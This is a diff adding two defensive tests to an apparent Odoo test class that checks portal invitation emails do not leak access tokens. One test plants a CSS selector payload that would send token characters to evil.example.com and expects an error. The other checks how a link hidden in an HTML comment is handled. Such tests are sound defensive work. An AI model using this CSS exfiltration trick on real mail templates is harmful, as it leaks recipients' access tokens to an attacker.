@@ -102,6 +102,19 @@ class TestInvitationSecrets(MailCase, SecretsCommon):
                 self.agent.action_send_portal_agent_invitation()
             self.assertNotIn("token=", "".join(self.env["mail.mail"].search([]).mapped("body_html")))
 
+    def test_template_can_not_disclose_the_link_by_a_style_sheet(self):
+        style = "<style>a[href*='token=a'] {background: url(https://evil.example.com/a)}</style>"
+        self.env.ref(TEMPLATE).body_html = f"""{style}<a t-att-href="object.get_base_url() + '/my/agent'">Go</a>"""
+        with self.assertRaisesRegex(UserError, r"could disclose the link: \[href\*='token=a'\]"):
+            self.agent.action_send_portal_agent_invitation()
+
+    def test_link_in_a_comment_counts_as_missing(self):
+        raw = """<t t-out="object.env['website'].new({'custom_code_head': '%s'}).custom_code_head"/>"""
+        link = """<a t-att-href="object.get_base_url() + '/my/agent'">Go</a>"""
+        self.env.ref(TEMPLATE).body_html = raw % "&lt;!--" + link + raw % "--&gt;"
+        self.agent.action_send_portal_agent_invitation()
+        self.assertIn("token=", self._get_invitation().body_html.partition("-->")[2])
+
     def test_link_with_a_query_leads_through_the_choice_of_a_password(self):
         self.env.ref(
             TEMPLATE
